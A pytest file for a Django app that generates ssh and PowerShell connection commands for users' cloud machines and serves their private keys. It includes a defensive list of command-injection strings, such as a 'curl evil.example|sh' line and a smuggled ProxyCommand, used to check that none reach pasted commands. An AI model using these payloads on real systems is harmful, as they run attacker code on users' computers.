"""The exact commands with which each tool connects, and the key."""

import re
import shutil
import subprocess

import pytest
from django.test import RequestFactory
from django.urls import reverse

from ondol.instances.models import Instance, SshKey
from ondol.instances.ssh import command, options
from ondol.instances.states import Status
from ondol.policy.models import Policy
from ondol.web.machine.connect import WAYS, Connect, connect_to, way_for
from tests.instances.keys import PEM
from tests.web.conftest import machine

STEM = "ondol-bob-5f0c9a52"
BOBS = Connect(f"{STEM}.pem", "203.0.113.24", "i-1")


def test_windows_powershell_word_for_word():
    names = "','".join((f"{STEM} (2).pem", f"{STEM}(1).pem", f"{STEM} (1).pem", f"{STEM}.pem"))
    words = BOBS.windows.replace(f"'{names}'", "NAMES").replace(BOBS.kit.missing, "MISSING")
    assert (
        words
        == r"""& {
$s="$env:USERPROFILE\.ssh" ; $c="$s\config"
mkdir -Force $s | Out-Null
$k="$s\ondol-bob-5f0c9a52.pem"
$r=Get-ItemProperty 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Explorer\User Shell Folders'
foreach ($d in "$env:USERPROFILE\Downloads",$r.'{374DE290-123F-4565-9164-39C4925E467B}') {
  foreach ($n in NAMES) {
    if (Test-Path "$d\$n") { Move-Item -Force "$d\$n" $k } } }
if (-not (Test-Path $k)) { Write-Warning 'MISSING' ; return }
icacls $k /inheritance:r | Out-Null ; icacls $k /grant:r "$(whoami):R" | Out-Null
Set-Content -Encoding Ascii "$s\ondol.conf" @(
  'Host ondol',
  '  HostName 203.0.113.24',
  '  Port 22',
  '  User ubuntu',
  '  IdentityFile ~/.ssh/ondol-bob-5f0c9a52.pem',
  '  IdentitiesOnly yes',
  '  HostKeyAlias ondol-i-1',
  '  CheckHostIP no',
  '  StrictHostKeyChecking accept-new',
  '  ServerAliveInterval 60')
$e=[Text.Encoding]::GetEncoding(28591) ; $t=''
if (Test-Path $c) { $t=$e.GetString([IO.File]::ReadAllBytes($c)) }
$t=$t -replace '^\xEF\xBB\xBF','' -replace '(?im)^[ \t]*Include[ \t]+ondol\.conf[ \t]*(\r?\n|\r?\z)',''
[IO.File]::WriteAllBytes($c, $e.GetBytes("Include ondol.conf`n$t"))
ssh ondol
}"""
    )


@pytest.mark.parametrize(("folder", "told"), [("다운로드", "다운로드"), ("Downloads", ""), ("Downloads", None)])
def test_the_key_is_moved_from_where_the_browser_puts_it(tmp_path, folder, told):
    """A Korean Linux names the folder in Korean, a bare one names one's home; macOS has no xdg-user-dir."""
    tools, downloads = tmp_path / "bin", tmp_path / folder
    for made in (tools, downloads):
        made.mkdir()
    if told is not None:
        (tools / "xdg-user-dir").write_text(f'#!/bin/sh\necho "$HOME/{told}"\n')
        (tools / "xdg-user-dir").chmod(0o755)
    for name in ("mkdir", "chmod", "mv", "cat", "sed", "rm"):
        (tools / name).symlink_to(shutil.which(name))
    for text, name in (("old", BOBS.key_file), ("new", BOBS.key_file.replace(".pem", " (1).pem"))):
        (downloads / name).write_text(text)
        subprocess.run(["/bin/sh", "-ec", BOBS.unix_setup], env={"HOME": str(tmp_path), "PATH": str(tools)}, check=True)
    key = tmp_path / ".ssh" / BOBS.key_file
    assert (key.read_text(), key.stat().st_mode & 0o777) == ("new", 0o600)


def test_the_configuration_word_for_word():
    assert BOBS.config_entry == (
        "\nHost ondol\n  HostName 203.0.113.24\n  Port 22\n  User ubuntu\n"
        "  IdentityFile ~/.ssh/ondol-bob-5f0c9a52.pem\n"
        "  IdentitiesOnly yes\n  HostKeyAlias ondol-i-1\n  CheckHostIP no\n  StrictHostKeyChecking accept-new\n"
        "  ServerAliveInterval 60\nHost *\n"
    )


def test_another_port_is_in_every_command():
    trial = Connect(f"{STEM}.pem", "127.0.0.2", "i-1", 2222)
    for words in (trial.windows, trial.unix):
        assert "  Port 2222" in words
    for words in (trial.ssh, trial.rsync):
        assert " -o IdentitiesOnly=yes -p 2222" in words
    assert " -o IdentitiesOnly=yes -P 2222 " in trial.scp
    assert "\n  Port 2222\n" in trial.config_entry


def test_all_four_ways_are_on_the_page_without_javascript(bob, browser_of):
    ppk = f"ondol-bob-{str(machine(bob).pk)[:8]}.ppk"
    page = browser_of(bob).get("/").text
    for words in ("Move-Item", "chmod 600", "vscode://vscode-remote/ssh-remote+ondol/home/ubuntu", ppk):
        assert words in page


def test_connecting_is_shown_only_while_running(bob, browser_of):
    machine(bob, Status.STOPPED)
    assert "vscode://" not in browser_of(bob).get("/").text


@pytest.mark.parametrize(
    ("header", "value", "way"),
    [
        ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "windows"),
        ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7)", "unix"),
        ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64)", "unix"),
        ("Sec-CH-UA-Platform", '"macOS"', "unix"),
        ("User-Agent", "", "windows"),
        ("Cookie", "ondol-way=putty", "putty"),
        ("Cookie", "ondol-way=nonsense", "windows"),
    ],
)
def test_the_way_is_guessed_or_remembered(header, value, way):
    assert way_for(RequestFactory().get("/", headers={header: value})) == way
    asked = RequestFactory().get("/", {"way": "vscode"}, headers={header: value})
    assert way_for(asked) == "vscode"


def test_the_server_shows_one_way_and_links_to_the_others(bob, browser_of):
    machine(bob)
    browser = browser_of(bob)
    for way in WAYS:
        page = browser.get("/", {"way": way}).text
        shown = [one for one in WAYS if f'<section id="way-{one}" >' in page]
        assert shown == [way]
        assert page.count('aria-current="true"') == 1
        assert all(f"?way={one}#connect-title" in page for one in WAYS)


def test_bob_is_told_to_do_something_about_a_new_address(bob, browser_of):
    row = machine(bob, address_changed=True)
    browser = browser_of(bob)
    page = browser.get("/").text
    assert "New address: update your computer." in page
    assert f"HostName {row.public_ip}" in page
    assert 'data-opens="vscode"' not in page
    browser.post(reverse("machine_address_told"), {"address": row.public_ip})
    page = browser.get("/").text
    assert "New address" not in page
    assert 'data-opens="vscode"' in page


def test_bob_takes_his_key(bob, browser_of):
    row = machine(bob)
    answer = browser_of(bob).post(reverse("machine_key"))
    assert answer.content.decode("ascii") == PEM
    assert answer.headers["Content-Type"] == "application/x-pem-file"
    assert answer.headers["Content-Disposition"] == f'attachment; filename="ondol-bob-{str(row.pk)[:8]}.pem"'
    assert "no-store" in answer.headers["Cache-Control"]


def test_bob_takes_his_key_for_putty(bob, browser_of):
    row = machine(bob)
    answer = browser_of(bob).post(reverse("machine_key"), {"form": "ppk"})
    assert answer.content.startswith(b"PuTTY-User-Key-File-2: ssh-rsa\n")
    assert f'filename="ondol-bob-{str(row.pk)[:8]}.ppk"' in answer.headers["Content-Disposition"]


HOSTILE = [
    "k;curl evil.example|sh #",
    "k\n  ProxyCommand sh -c evil\n#",
    "$(evil)",
    "`evil`",
    '"',
    "../../x",
    "-oX=y",
    "k k",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_what_mallory_writes_into_a_row_is_in_no_command_that_bob_pastes(bob, browser_of, text):
    """Bob's computer is not ours: a name in the database that reached his shell would be code there."""
    row = machine(bob, Status.RUNNING, public_ip="203.0.113.24", instance_id="i-0123456789abcdef0")
    SshKey.objects.filter(instance=row).update(file_stem=text[:80])
    Instance.objects.filter(pk=row.pk).update(instance_id=text[:32])
    row = Instance.objects.get(pk=row.pk)
    names = Connect(f"ondol-bob-{str(row.pk)[:8]}.pem", "203.0.113.24", str(row.pk))
    assert connect_to(row) == names
    assert command(row) == f"ssh {options(f'~/.ssh/{names.key_file}', 22)} ubuntu@203.0.113.24"
    browser = browser_of(bob)
    page = browser.get("/").content.decode()
    assert names.key_file in page
    assert "evil" not in page
    taken = browser.post(reverse("machine_key"))
    assert taken.headers["Content-Disposition"] == f'attachment; filename="{names.key_file}"'


def test_without_a_key_it_says_so(bob, browser_of):
    machine(bob, Status.PENDING, key=False)
    assert "There is no key yet." in browser_of(bob).post(reverse("machine_key"), follow=True).text


@pytest.mark.parametrize(("language", "words"), [("ko", "아직 머신이 없습니다."), ("en", "You have no machine yet.")])
def test_help_has_the_commands_of_bobs_own_machine_once_he_has_one(bob, browser_of, language, words):
    page = browser_of(bob, language).get(reverse("help")).text
    assert words in page
    assert not [one for one in ("ADDRESS", "MACHINE", "INSTANCE_ID", "data-copy", ".pem</code>") if one in page]
    machine(bob)
    page = browser_of(bob, language).get(reverse("help")).text
    assert "HostName 203.0.113.24" in page
    assert words not in page


@pytest.mark.parametrize("language", ["ko", "en"])
def test_help_names_network_and_disk_only_where_they_count(bob, browser_of, language):
    signals = {"ko": ("네트워크와 디스크", "kB/s"), "en": ("network nor its disk", "kB/s")}[language]
    page = browser_of(bob, language).get("/help/").text
    assert all(signal in page for signal in signals)
    Policy.objects.create(owner=None, lease_hours=0)
    page = browser_of(bob, language).get("/help/").text
    assert not any(signal in page for signal in signals)


@pytest.mark.parametrize(("language", "words"), [("ko", "디스크와 경보 비용만"), ("en", "disk and alarm only")])
def test_help_names_all_that_bob_pays_for_a_stopped_machine(bob, browser_of, language, words):
    assert words in browser_of(bob, language).get(reverse("help")).text


ERRORS = {
    "Permission denied (publickey)": "key_file",
    "Connection timed out": "address",
    "Connection refused": "port",
    "REMOTE HOST IDENTIFICATION HAS CHANGED": "address",
    "Host key verification failed": "address",
    "UNPROTECTED PRIVATE KEY FILE": "key_file",
    "Bad owner or permissions": "address",
    "Could not resolve hostname": "address",
    "Too many authentication failures": "ssh",
    "kex_exchange_identification": "address",
    "no such identity": "key_file",
    "invalid format": "key_file",
}
"""What ssh says, and which of the reader's own values its remedy names."""
ASKS = {"ko": "십시오", "en": ("Use", "Check", "Wait", "run", "Run", "Paste", "Move", "Download")}


@pytest.mark.parametrize("language", ["ko", "en"])
def test_help_knows_what_ssh_says_with_bobs_own_values(bob, browser_of, language):
    own = connect_to(machine(bob))
    page = browser_of(bob, language).get("/help/").text
    told = re.findall(r'<dt id="error-\w+">(.*?)</dt>\s*<dd>(.*?)</dd>', page, re.S)
    assert len(told) == len(ERRORS)
    for (said, value), (heading, remedy) in zip(ERRORS.items(), told, strict=True):
        assert said in heading
        assert str(getattr(own, value)) in remedy, heading
        asks = ASKS[language]
        assert any(word in remedy for word in ([asks] if isinstance(asks, str) else asks)), heading
        assert len(re.split(r"[.:] ", re.sub(r"\s+", " ", remedy))) > 1, f"{heading}: a cause, then a remedy"


def test_help_tells_when_the_address_of_a_stopped_machine_appears_and_has_all_else(bob, browser_of):
    row = machine(bob, status=Status.STOPPED, public_ip=None)
    page = browser_of(bob).get("/help/").text
    assert "the real one appears once it runs" in page
    assert f"HostKeyAlias ondol-{row.instance_id}" in page
    assert "INSTANCE_ID" not in page
    Instance.objects.filter(pk=row.pk).update(status=Status.RUNNING, public_ip="203.0.113.24")
    page = browser_of(bob).get("/help/").text
    assert "the real one appears" not in page
    assert "ADDRESS" not in page
